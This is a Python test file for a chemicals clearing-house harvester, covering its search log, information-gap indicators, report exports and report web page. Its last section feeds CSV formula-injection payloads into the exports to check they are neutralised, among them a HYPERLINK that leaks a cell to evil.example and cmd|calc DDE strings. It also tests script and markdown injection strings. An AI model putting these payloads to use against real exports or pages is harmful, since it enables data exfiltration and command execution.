"""The search log, the information gaps and the indicators: figures computed from a store with known contents
(records written with Store.apply_batch, runs with Store.acquire/finish, searches with log_search), their
md/json/csv forms, the HTTP routes on a real node (its API and web searches logged with their hit counts),
and the /report page in a real headless chromium."""
from __future__ import annotations

import csv
import io
import json
import time
from datetime import datetime, timedelta, timezone

import lxml.html
import pytest
import requests
import yaml

from harvester import report, searchlog, vocab
from harvester.index import Query
from harvester.store import Item, Store

from .nodeserver import NodeServer
from .test_web import Browser, browser_binaries, css, write_records


def rec(n: int, type_: str, *, node="ke", source="ke-moe", chemicals=(), countries=(), regions=(), languages=("en",),
        completeness=None, title=None, assistance=None) -> dict:
    r = {"id": f"{node}:{source}:{n}", "origin": {"node": node, "source": source, "identifier": str(n)},
         "path": [node], "datestamp": "2025-03-04T05:06:07Z", "title": {"en": title or f"Record {n}"},
         "type": type_, "chemicals": list(chemicals), "countries": list(countries), "regions": list(regions),
         "languages": list(languages), "year": 2025}
    if completeness is not None:
        r["quality"] = {"completeness": completeness, "missing": []}
    if assistance is not None:
        r["assistance"] = assistance
    return r


RECORDS = [
    rec(1, "national_implementation_plan", chemicals=["pcb", "ddt"], countries=["KE"], regions=["africa"],
        completeness=0.95, title="Kenya national implementation plan on PCB and DDT"),
    rec(2, "national_report", chemicals=["pcb"], countries=["KE"], regions=["africa"], languages=["en", "fr"],
        completeness=0.72, title="Kenya national report on PCB"),
    rec(3, "legislation", chemicals=["pcdd"], countries=["TZ"], regions=["africa"], completeness=0.45,
        node="tz", source="tz-portal", title="Tanzania regulations on dioxins"),
    rec(4, "assistance_request", chemicals=["pcb"], countries=["KE"], regions=["africa"], completeness=0.6,
        title="Request: PCB disposal in Kenya", assistance={"kind": ["technical"], "status": "submitted"}),
    rec(5, "assistance_request", chemicals=["ddt"], countries=["PE"], regions=["grulac"], languages=["es"],
        completeness=0.05, title="Solicitud: DDT en Perú", assistance={"kind": ["financial"], "status": "submitted"}),
    rec(6, "assistance_source", chemicals=["pcb"], countries=["KE"], completeness=1.0, node="tz", source="tz-portal",
        title="East Africa technical help on PCB",
        assistance={"kind": ["technical"], "status": "open", "eligible_regions": ["africa"]}),
]
GONE = rec(7, "national_report", title="A record deleted at its source")


def fill(store: Store) -> None:
    """The known contents: six live records, one tombstone, runs of three sources, and searches."""
    store.apply_batch([Item(r["origin"]["source"], r["origin"]["identifier"], r, raw=json.dumps(r), format="pops")
                       for r in RECORDS + [GONE]])
    store.apply_batch([Item("ke-moe", "7")])
    run = store.acquire("ke-moe")                  # ke-moe: ok, then ok: active, not failing
    store.finish("ke-moe", run, "ok")
    run = store.acquire("ke-moe")
    store.finish("ke-moe", run, "ok")
    run = store.acquire("tz-portal")               # tz-portal: ok then failed: active and failing
    store.finish("tz-portal", run, "ok")
    run = store.acquire("tz-portal")
    store.finish("tz-portal", run, "failed", "HTTP 503")
    run = store.acquire("broken")                  # broken: failed only
    store.finish("broken", run, "failed", "DNS")
    store.acquire("slow")                          # still running: not counted


def log(store, text, hits, *, filters=None, lang="en", channel="api", at=None, scope="local"):
    assert searchlog.log_search(store, Query(text, filters=filters or {}, lang=lang), hits, scope, channel, at=at)


NOW = datetime.now(timezone.utc)


@pytest.fixture
def store(tmp_path):
    with Store(tmp_path / "store.sqlite") as s:
        fill(s)
        yield s


# ----------------------------------------------------------------------------------------------- search log


def test_search_log_keeps_no_personal_data_and_normalises(store):
    assert searchlog.table_columns(store) == ["id", "at", "scope", "query", "lang", "filters", "hits", "channel"]
    log(store, "  PCB \t  Transformers\nKenya ", 4, filters={"countries": ["TZ", "KE", "KE"], "type": ["legislation"]})
    searchlog.log_search(store, "Ｄｉｏｘｉｎ  " + "x" * 500, 0, "federation", "cli")
    searchlog.log_search(store, "", None, "nonsense", "carrier-pigeon", lang="FR")
    rows = searchlog.searches(store)
    assert [r["query"] for r in rows] == ["pcb transformers kenya", ("dioxin " + "x" * 500)[:200], ""]
    assert rows[0]["filters"] == {"countries": ["KE", "TZ"], "type": ["legislation"]}
    assert rows[0]["lang"] == "en" and rows[0]["hits"] == 4 and rows[0]["channel"] == "api"
    assert rows[1]["scope"] == "federation" and rows[1]["channel"] == "cli" and rows[1]["lang"] is None
    assert rows[2]["scope"] == "local" and rows[2]["channel"] == "api" and rows[2]["hits"] == 0
    assert rows[2]["lang"] == "fr"
    assert all(r["at"].endswith("Z") and len(r["at"]) == 20 for r in rows)


def test_log_search_never_raises(tmp_path):
    s = Store(tmp_path / "closed.sqlite")
    s.close()
    assert searchlog.log_search(s, "pcb", 3) is True       # the log writes through a connection of its own
    with Store(tmp_path / "closed.sqlite") as again:
        assert [r["query"] for r in searchlog.searches(again)] == ["pcb"]
    assert searchlog.log_search(object(), "pcb", 3) is False


def test_gaps_rank_zero_hits_first_group_and_keep_filters(store):
    old = NOW - timedelta(days=3)
    for _ in range(3):
        log(store, "PFOS firefighting foam", 2, at=old)          # few hits, searched most
    log(store, "pfos   FIREFIGHTING foam", 2, lang="fr", channel="web")
    log(store, "dioxin chad", 0, at=old)                          # no hits, twice
    log(store, "Dioxin Chad", 0, lang="fr")
    log(store, "mirex", 0)                                        # no hits, once
    log(store, "PCB", 0, filters={"countries": ["TD"], "type": ["national_implementation_plan"]})
    log(store, "pcb", 25)                                         # plenty: not a gap
    log(store, "lindane", 0, at=old)                              # found nothing, then 9 records:
    log(store, "lindane", 9)                                      # the need was met, not a gap any more
    log(store, "endosulfan", 5)                                   # 5 > few=3: not a gap
    gaps = searchlog.information_gaps(store)
    assert [(g["query"], g["filters"], g["searches"]) for g in gaps] == [
        ("dioxin chad", {}, 2),
        ("mirex", {}, 1),
        ("pcb", {"countries": ["TD"], "type": ["national_implementation_plan"]}, 1),
        ("pfos firefighting foam", {}, 4),
    ]
    first = gaps[0]
    assert first["no_hit_searches"] == 2 and first["last_hits"] == 0 and first["languages"] == ["en", "fr"]
    pfos = gaps[-1]
    assert pfos["no_hit_searches"] == 0 and pfos["last_hits"] == pfos["max_hits"] == 2
    assert pfos["channels"] == ["api", "web"] and pfos["first_seen"] < pfos["last_seen"]
    assert [g["query"] for g in searchlog.information_gaps(store, few=5)][-1] == "endosulfan"
    assert len(searchlog.information_gaps(store, limit=2)) == 2
    # a period: only what was searched in it
    since = (NOW - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    recent = searchlog.information_gaps(store, since=since)
    assert [(g["query"], g["searches"]) for g in recent][:2] == [("dioxin chad", 1), ("mirex", 1)]
    assert "lindane" not in [g["query"] for g in recent]


def test_retention_prunes_old_rows(store, monkeypatch):
    for days in (800, 401, 399, 10):
        log(store, f"query {days}", 1, at=NOW - timedelta(days=days))
    assert searchlog.prune(store) == 2
    assert [r["query"] for r in searchlog.searches(store)] == ["query 399", "query 10"]
    assert searchlog.prune(store, days=30) == 1
    monkeypatch.setenv(searchlog.RETENTION_ENV, "5")
    assert searchlog.retention_days() == 5 and searchlog.prune(store) == 1
    assert searchlog.searches(store) == []


def test_the_log_prunes_itself_as_it_grows(store):
    log(store, "ancient", 0, at=NOW - timedelta(days=1000))
    while True:
        log(store, "pcb", 3)
        searchlog.flush(store)
        last = store.db.execute("SELECT MAX(id) FROM search_log").fetchone()[0]
        if last % searchlog.PRUNE_EVERY == 0:
            break
    queries = {r["query"] for r in searchlog.searches(store)}
    assert queries == {"pcb"} and len(searchlog.searches(store)) == searchlog.PRUNE_EVERY - 1


# ----------------------------------------------------------------------------------------------- indicators


def test_indicators_from_known_contents(store):
    log(store, "pcb", 3, at=datetime(2026, 1, 15, tzinfo=timezone.utc))
    log(store, "mirex", 0, at=datetime(2026, 1, 20, tzinfo=timezone.utc))
    log(store, "ddt", 2, at=datetime(2026, 2, 1, tzinfo=timezone.utc))
    log(store, "dioxin chad", 0, at=datetime(2026, 2, 2, tzinfo=timezone.utc), channel="web")
    log(store, "dioxin chad", 0, at=datetime(2026, 2, 3, tzinfo=timezone.utc))
    ind = report.indicators(store)
    r = ind["records"]
    assert (r["total"], r["deleted"], r["changed_in_period"]) == (6, 1, 6)
    assert r["by_type"] == {"assistance_request": 2, "assistance_source": 1, "legislation": 1,
                            "national_implementation_plan": 1, "national_report": 1}
    assert r["by_chemical"] == {"pcb": 4, "ddt": 2, "pcdd": 1}
    assert r["by_country"] == {"KE": 4, "PE": 1, "TZ": 1}
    assert r["by_region"] == {"africa": 4, "grulac": 1}
    assert r["by_language"] == {"en": 5, "es": 1, "fr": 1}
    assert r["by_origin_node"] == {"ke": 4, "tz": 2}
    month = NOW.strftime("%Y-%m")
    assert r["by_month"] == {month: 6} and r["cumulative_by_month"] == {month: 6}
    p = ind["providers"]
    assert p["sources"] == {"total": 4, "active": 2, "failing": 2, "active_ids": ["ke-moe", "tz-portal"],
                            "failing_ids": ["broken", "tz-portal"]}
    assert p["origin_nodes"] == {"total": 2, "active": 2, "failing": 1, "active_ids": ["ke", "tz"],
                                 "failing_ids": ["tz"]}
    assert ind["harvest"] == {"runs": 5, "ok": 3, "success_rate": 0.6,
                              "by_status": {"ok": 3, "failed": 2, "running": 1}}
    c = ind["completeness"]
    assert c["scored"] == 6 and c["mean"] == round((0.95 + 0.72 + 0.45 + 0.6 + 0.05 + 1.0) / 6, 4)
    assert c["histogram"] == {"0.0-0.1": 1, "0.1-0.2": 0, "0.2-0.3": 0, "0.3-0.4": 0, "0.4-0.5": 1, "0.5-0.6": 0,
                              "0.6-0.7": 1, "0.7-0.8": 1, "0.8-0.9": 0, "0.9-1.0": 2}
    s = ind["searches"]
    assert s["total"] == 5 and s["no_hits"] == 3 and s["no_hit_share"] == 0.6
    assert s["by_month"] == {"2026-01": {"searches": 2, "no_hits": 1}, "2026-02": {"searches": 3, "no_hits": 2}}
    assert s["by_channel"] == {"api": 4, "web": 1}
    a = ind["assistance"]
    assert (a["sources"], a["requests"]) == (1, 2)
    assert a["requests_by_kind"] == {"financial": 1, "technical": 1}
    assert a["requests_by_region"] == {"africa": 1, "grulac": 1}
    assert a["requests_by_status"] == {"submitted": 2}
    assert a["sources_by_kind"] == {"technical": 1} and a["sources_by_status"] == {"open": 1}
    # the Kenyan request fits the open East African source; the Peruvian one (financial, GRULAC) does not
    assert a["requests_with_open_match"] == 1 and a["open_match_share"] == 0.5
    assert [(g["query"], g["searches"]) for g in ind["gaps"]] == [("dioxin chad", 2), ("mirex", 1), ("ddt", 1),
                                                                  ("pcb", 1)]
    # a period bounds the searches and the gaps (and the runs: all of them are now, outside February)
    feb = report.indicators(store, "2026-02-01", "2026-02-28")
    assert feb["period"] == {"from": "2026-02-01T00:00:00Z", "until": "2026-02-28T23:59:59Z"}
    assert feb["searches"]["total"] == 3 and list(feb["searches"]["by_month"]) == ["2026-02"]
    assert [g["query"] for g in feb["gaps"]] == ["dioxin chad", "ddt"]
    assert feb["harvest"] == {"runs": 0, "ok": 0, "success_rate": None, "by_status": {}}
    assert feb["providers"]["sources"]["active"] == 0 and feb["providers"]["sources"]["failing"] == 2
    assert feb["records"]["total"] == 6 and feb["records"]["changed_in_period"] == 0


def test_built_in_matching_agrees_with_the_assistance_rules():
    source = RECORDS[5]
    assert report.open_match(RECORDS[3], source) and not report.open_match(RECORDS[4], source)
    closed = dict(source, assistance=dict(source["assistance"], status="closed"))
    late = dict(source, assistance=dict(source["assistance"], deadline="2020-01-01"))
    assert not report.open_match(RECORDS[3], closed) and not report.open_match(RECORDS[3], late)
    everyone = dict(source, assistance={"kind": ["financial"], "status": "open"})
    assert report.open_match(RECORDS[4], everyone)


def test_render_md_json_csv(store):
    log(store, "dioxin | chad", 0)
    ind = report.indicators(store)
    assert json.loads(report.render(ind, "json")) == ind
    rows = list(csv.reader(io.StringIO(report.render(ind, "csv"))))
    assert rows[0] == ["section", "key", "value"]
    figures = {(s, k): v for s, k, v in rows[1:]}
    assert figures[("records", "total")] == "6"
    assert figures[("records", "by_type.assistance_request")] == "2"
    assert figures[("records", "by_region.africa")] == "4"
    assert figures[("harvest", "success_rate")] == "0.6"
    assert figures[("providers", "sources.failing_ids")] == "broken tz-portal"
    assert figures[("completeness", "histogram.0.9-1.0")] == "2"
    assert figures[("assistance", "requests_with_open_match")] == "1"
    assert figures[("gaps", "dioxin | chad")] == "1"
    assert len(rows) - 1 == len(report.figures(ind))
    md = report.render(ind, "md")
    assert md.startswith("# Clearing-house indicators\n")
    for line in ("| Polychlorinated biphenyls (pcb) | 4 |", "| African States (africa) | 4 |",
                 "Runs: 5; ok: 3; success rate: 60.0%", "| sources | 4 | 2 | 2 |", "| dioxin \\| chad | 1 | 1 | 0 |",
                 "requests with at least one open match: 1 (50.0%)"):
        assert line in md, line
    with pytest.raises(ValueError):
        report.render(ind, "xls")


# ----------------------------------------------------------------------------------------------- HTTP


@pytest.fixture(scope="module")
def node(tmp_path_factory):
    d = tmp_path_factory.mktemp("report")
    cfg = d / "node.yaml"
    cfg.write_text(yaml.safe_dump({"node": {"id": "ke", "name": "Kenya <node>", "url": "http://127.0.0.1"},
                                   "store": {"path": str(d / "ke.sqlite")}, "index": {"backend": "embedded"}}))
    write_records(cfg, RECORDS + [GONE], delete=[("ke-moe", "7")])
    with NodeServer(cfg) as srv:
        with Store(srv.cfg.store_path) as s:
            run = s.acquire("ke-moe")
            s.finish("ke-moe", run, "ok")
            run = s.acquire("tz-portal")
            s.finish("tz-portal", run, "failed", "HTTP 503")
        yield srv


def logged(node) -> list[dict]:
    with Store(node.cfg.store_path) as s:
        return searchlog.searches(s)


def test_api_and_web_searches_are_logged_with_their_hit_counts(node):
    before = len(logged(node))
    pcb = requests.get(f"{node.url}/api/search", params={"q": "PCB  Kenya", "lang": "en"}, timeout=30).json()
    assert pcb["total"] > 0
    none = requests.get(f"{node.url}/api/search", params={"q": "heptachlor", "filter": "countries:TD"},
                        timeout=30).json()
    assert none["total"] == 0
    # later pages and title suggestions are not new searches
    requests.get(f"{node.url}/api/search", params={"q": "PCB", "offset": 10}, timeout=30).raise_for_status()
    requests.get(f"{node.url}/api/search", params={"q": "PC", "suggest": 1, "limit": 5}, timeout=30).raise_for_status()
    page = requests.get(f"{node.url}/", params={"q": "dioxins", "lang": "fr"}, timeout=30)
    assert page.status_code == 200
    total = int(css(lxml.html.fromstring(page.content), "#count")[0].get("data-total"))
    requests.get(f"{node.url}/", params={"q": "dioxins", "lang": "fr", "offset": 10}, timeout=30)
    rows = logged(node)[before:]
    assert [(r["query"], r["filters"], r["hits"], r["channel"], r["lang"], r["scope"]) for r in rows] == [
        ("pcb kenya", {}, pcb["total"], "api", "en", "local"),
        ("heptachlor", {"countries": ["TD"]}, 0, "api", None, "local"),
        ("dioxins", {}, total, "web", "fr", "local"),
    ]
    assert total == 1


def test_report_api_formats(node):
    requests.get(f"{node.url}/api/search", params={"q": "nothing at all here"}, timeout=30)
    body = requests.get(f"{node.url}/api/report", timeout=30).json()
    assert body["node"] == "ke" and body["records"]["total"] == 6 and body["records"]["deleted"] == 1
    assert body["providers"]["sources"]["failing_ids"] == ["tz-portal"]
    assert body["harvest"]["success_rate"] == 0.5
    assert any(g["query"] == "nothing at all here" for g in body["gaps"])
    r = requests.get(f"{node.url}/api/report", params={"format": "csv"}, timeout=30)
    assert r.headers["content-type"].startswith("text/csv") and "attachment" in r.headers["content-disposition"]
    assert "records,by_origin_node.tz,2" in r.text.splitlines()
    r = requests.get(f"{node.url}/api/report", params={"format": "md", "from": "2020-01-01", "until": "2099-12-31"},
                     timeout=30)
    assert r.headers["content-type"].startswith("text/markdown")
    assert "Period: 2020-01-01T00:00:00Z to 2099-12-31T23:59:59Z" in r.text
    bad = requests.get(f"{node.url}/api/report", params={"from": "last tuesday"}, timeout=30)
    assert bad.status_code == 400 and "YYYY-MM-DD" in bad.json()["error"]
    for params, name in (({"from": "2026-02-29"}, "from"), ({"until": "2026-01-01T24:00:00Z"}, "until"),
                         ({"until": "2026-01-01\n"}, "until"), ({"format": "xls"}, "format"),
                         ({"format": ["csv", "md"]}, "format"), ({"from": ["2020-01-01", "2021-01-01"]}, "from")):
        bad = requests.get(f"{node.url}/api/report", params=params, timeout=30)
        assert bad.status_code == 400 and bad.json()["error"].startswith(f"{name}: "), (params, bad.text)
    empty = requests.get(f"{node.url}/api/report", params={"from": "", "until": "2099-12-31T23:59:59Z"}, timeout=30)
    assert empty.status_code == 200 and empty.json()["records"]["total"] == 6, "an empty bound is no bound"


def test_report_page_has_charts_tables_and_escapes_labels(node):
    hostile = "<script>window.__pwned=1</script> pcb"
    requests.get(f"{node.url}/api/search", params={"q": hostile}, timeout=30)
    r = requests.get(f"{node.url}/report", params={"lang": "en"}, timeout=30)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
    assert "script-src 'self'" in r.headers["content-security-policy"]
    assert "<script>window.__pwned" not in r.text and "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in r.text
    doc = lxml.html.fromstring(r.content)
    charts = {svg.get("data-figure"): svg for svg in doc.xpath("//svg")}
    assert {"growth", "by_type", "by_chemical", "by_country", "by_region", "by_language", "by_origin_node",
            "completeness", "searches", "requests_by_region"} <= set(charts)
    bars = {b.get("data-label"): b.get("data-value") for b in charts["by_chemical"].xpath(".//rect[@class='bar']")}
    assert bars == {vocab.label("chemicals", "pcb", "en"): "4", vocab.label("chemicals", "ddt", "en"): "2",
                    vocab.label("chemicals", "pcdd", "en"): "1"}
    kpi = {k.get("data-figure"): k.xpath("string(dd)") for k in css(doc, ".kpi")}
    assert kpi["records"] == "6" and kpi["success_rate"] == "50.0%" and kpi["open_match_share"] == "50.0%"
    rows = {tr.xpath("string(th)"): tr.xpath("string(td)") for tr in css(doc, "#by_type tbody tr")}
    assert rows[vocab.label("document_types", "assistance_request", "en")] == "2"
    gaps = [tr.xpath("string(th)") for tr in css(doc, "#gaps tr.gap")]
    assert hostile in gaps
    assert [a.get("data-format") for a in css(doc, ".export a")] == ["json", "csv", "md"]
    assert requests.get(node.url + css(doc, 'link[rel="stylesheet"]')[1].get("href"), timeout=30).headers[
        "content-type"].startswith("text/css")
    # the same page in French and Arabic: the page's words and the vocabulary labels change
    fr = lxml.html.fromstring(requests.get(f"{node.url}/report", params={"lang": "fr"}, timeout=30).content)
    assert css(fr, "h1")[0].text_content().startswith("Indicateurs")
    assert vocab.label("chemicals", "pcb", "fr") in [b.get("data-label") for b in css(fr, "svg rect")]
    ar = lxml.html.fromstring(requests.get(f"{node.url}/report", params={"lang": "ar"}, timeout=30).content)
    assert ar.get("dir") == "rtl" and vocab.label("regions", "africa", "ar") in ar.text_content()
    bad = requests.get(f"{node.url}/report", params={"from": "<b>"}, timeout=30)
    assert bad.status_code == 400 and "<b>" not in bad.text


# ----------------------------------------------------------------------------------------------- browser


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    chromium, driver = browser_binaries()
    b = Browser(chromium, driver, tmp_path_factory.mktemp("chromium-report") / "profile")
    try:
        yield b
    finally:
        b.close()


def test_browser_shows_the_charts_and_key_figures(node, browser):
    browser.go(f"{node.url}/report?lang=en")
    browser.loaded("/report")
    charts = browser.js("return Array.from(document.querySelectorAll('svg.chart')).map("
                        "s => [s.dataset.figure, s.querySelectorAll('rect.bar, circle.point').length, "
                        "s.getBoundingClientRect().width > 100])")
    shown = {name: (n, wide) for name, n, wide in charts}
    assert shown["by_type"] == (5, True) and shown["by_chemical"] == (3, True)
    assert shown["completeness"] == (10, True) and shown["growth"][0] >= 1 and shown["searches"][0] >= 1
    heights = browser.js("return Array.from(document.querySelectorAll('svg[data-figure=by_chemical] rect.bar'))"
                         ".map(r => r.getBoundingClientRect().width)")
    assert heights[0] > heights[1] > heights[2] > 0            # 4 > 2 > 1, drawn to scale
    assert browser.text(browser.find('.kpi[data-figure="records"] dd')) == "6"
    assert browser.text(browser.find('.kpi[data-figure="success_rate"] dd')) == "50.0%"
    assert browser.js("return window.__pwned === undefined")
    # the period form reloads the page with the dates
    browser.js("document.querySelector('input[name=from]').value = '2020-01-01'")
    browser.click(browser.find("form.period button"))
    browser.loaded("from=2020-01-01")
    assert browser.text(browser.find('.kpi[data-figure="records"] dd')) == "6"


def test_a_busy_store_delays_no_search_and_loses_no_line(tmp_path):
    with Store(tmp_path / "busy.sqlite") as writer, Store(tmp_path / "busy.sqlite") as reader:
        searchlog.ensure_table(reader)
        with writer.transaction():             # a harvest batch holding the write lock
            t0 = time.monotonic()
            assert searchlog.log_search(reader, "pcb", 1) is True
            assert time.monotonic() - t0 < 1
            assert searchlog.flush(reader, timeout=0.5) is False      # waiting for the lock, not dropped
        assert [r["query"] for r in searchlog.searches(reader)] == ["pcb"]


# ----------------------------------------------------------------------------------------------- hostile words

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]
MARKUP = ["<script>alert(1)</script>", "[click](javascript:alert(1)) ![x](http://evil.example/x.png)",
          "*bold* _it_ `code` ~~gone~~ a|b"]


def _check_csv(text: str) -> None:
    """Every gap label that a spreadsheet would read as a formula starts with a single quote instead."""
    keys = [k for s, k, _ in csv.reader(io.StringIO(text)) if s == "gaps"]
    for word in FORMULAS:
        assert "'" + searchlog.normalise(word) in keys, (word, keys)
    for s, k, v in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(report.FORMULA_STARTS) for cell in (s, k, v)), (s, k, v)


def _check_md(text: str) -> None:
    """No tag, link, image or emphasis from the search words survives into the Markdown."""
    assert "<script" not in text and "<" not in text.split("## Information gaps")[1]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "\\[click\\](javascript:alert(1)) !\\[x\\](http://evil.example/x.png)" in text
    assert "\\*bold\\* \\_it\\_ \\`code\\` \\~\\~gone\\~\\~ a\\|b" in text
    gaps = text.split("## Information gaps")[1].splitlines()
    rows = [line for line in gaps if line.startswith("| ") and "searches" not in line]
    assert all(line.replace("\\|", "").count("|") == 6 for line in rows), rows   # five cells each, no more


def test_csv_cells_that_start_a_formula_are_quoted():
    assert [report.csv_cell(v) for v in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "pcb", "a=b", 3, -3, 0.5)] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "pcb", "a=b", 3, -3, 0.5]


def test_report_cli_neutralises_formulas_and_markup_in_search_words(store, tmp_path):
    from click.testing import CliRunner
    from cli import main
    for word in FORMULAS + MARKUP:
        log(store, word, 0)
    cfg = tmp_path / "node.yaml"
    cfg.write_text(yaml.safe_dump({"node": {"id": "ke", "name": "Kenya"}, "store": {"path": str(store.path)},
                                   "index": {"backend": "embedded"}}))
    out = {}
    for fmt in ("csv", "md"):
        r = CliRunner().invoke(main, ["--config", str(cfg), "report", "--format", fmt])
        assert r.exit_code == 0, r.output
        out[fmt] = r.stdout
    _check_csv(out["csv"])
    _check_md(out["md"])


def test_report_api_neutralises_formulas_and_markup_in_search_words(node):
    for word in FORMULAS + MARKUP:
        assert requests.get(f"{node.url}/api/search", params={"q": word}, timeout=30).status_code == 200
    csv_answer = requests.get(f"{node.url}/api/report", params={"format": "csv"}, timeout=30)
    md_answer = requests.get(f"{node.url}/api/report", params={"format": "md"}, timeout=30)
    _check_csv(csv_answer.text)
    _check_md(md_answer.text)
    assert md_answer.headers["x-content-type-options"] == "nosniff"


def test_no_search_is_lost_from_the_log_under_load(node):
    """Concurrent searches against a running node: each is one row of the log (they used to be dropped with
    'database is locked' when the server's threads wrote at the same moment)."""
    from concurrent.futures import ThreadPoolExecutor
    n = 2000
    before = len(logged(node))
    session = requests.Session()
    session.mount("http://", requests.adapters.HTTPAdapter(pool_connections=1, pool_maxsize=32))

    def search(i):
        return session.get(f"{node.url}/api/search", params={"q": f"load {i}", "limit": 1}, timeout=60).status_code

    with ThreadPoolExecutor(32) as pool:
        assert set(pool.map(search, range(n))) == {200}
    rows = logged(node)[before:]
    assert sorted(r["query"] for r in rows) == sorted(f"load {i}" for i in range(n))


def test_a_command_line_search_is_logged_before_the_process_ends(tmp_path):
    """Rows are written by a thread of their own; the process waits for it before exiting."""
    import subprocess
    import sys
    from .conftest import ROOT
    cfg = tmp_path / "node.yaml"
    cfg.write_text(yaml.safe_dump({"node": {"id": "ke", "name": "Kenya"}, "store": {"path": str(tmp_path / "s.sqlite")},
                                   "index": {"backend": "embedded"}}))
    for word in ("pcb", "mirex"):
        subprocess.run([sys.executable, str(ROOT / "cli.py"), "--config", str(cfg), "search", word], check=True,
                       capture_output=True, cwd=ROOT, timeout=120)
    with Store(tmp_path / "s.sqlite") as s:
        assert [(r["query"], r["channel"]) for r in searchlog.searches(s)] == [("pcb", "cli"), ("mirex", "cli")]
